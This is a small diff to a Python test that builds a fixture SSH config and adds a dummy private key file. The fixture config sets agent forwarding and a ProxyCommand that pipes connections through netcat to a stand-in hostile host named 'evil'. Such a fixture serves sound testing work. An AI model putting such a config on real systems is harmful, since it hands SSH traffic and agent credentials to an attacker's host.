@@ -32,6 +32,7 @@ def _line(folder: Path, *words: str, terminal: bool = False) -> tuple[str, ...]:
 def test_the_client_reads_it_as_it_is_meant(tmp_path: Path, name: str) -> None:
     folder = tmp_path / name
     folder.mkdir()
+    (folder / "id_ed25519").touch()
     (tmp_path / ".ssh").mkdir()
     (tmp_path / ".ssh" / "config").write_text(
         "Host *\n  ForwardAgent yes\n  ProxyCommand nc evil 22\n  ControlMaster auto\n"
